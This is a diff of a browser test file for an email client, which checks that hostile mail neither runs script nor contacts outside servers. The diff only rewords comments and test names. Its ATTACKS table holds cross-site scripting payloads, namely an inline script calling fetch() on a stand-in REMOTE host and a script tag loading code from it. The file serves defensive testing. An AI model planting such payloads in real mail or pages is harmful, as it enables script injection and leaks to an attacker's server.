@@ -1,9 +1,9 @@
-// Mail that attacks its reader: nothing of it runs, submits, navigates, or asks another server for anything.
+// Mail that attacks its reader: nothing of it runs, submits, navigates, or contacts another server.
 import { afterAll, beforeAll, expect, test } from "bun:test";
 import type { Page } from "playwright-core";
 import { inBrowser } from "./support/browser.ts";
 
-/** `REMOTE` stands for the address of a server that must never be asked. */
+/** `REMOTE` stands for the address of a server that must never be contacted. */
 const ATTACKS: Record<string, string> = {
   "a script": `<script>top.pwned = 1; fetch("REMOTE/script")</script>`,
   "a script from elsewhere": `<script src="REMOTE/script.js"></script>`,
@@ -54,7 +54,7 @@ inBrowser("hostile mail", (bench) => {
 
   for (const name of Object.keys(ATTACKS)) {
     const image = IMAGES[name];
-    test(`with ${name} does nothing and asks nobody${image ? ", until its image is loaded" : ""}`, async () => {
+    test(`with ${name} does nothing and contacts nobody${image ? ", until its image is loaded" : ""}`, async () => {
       const { mailkeep } = bench();
       const address = `${mailkeep.http}/messages/${await mailkeep.idOf(`With ${name}`)}`;
       const counted = page.waitForResponse((response) => response.request().method() === "HEAD");
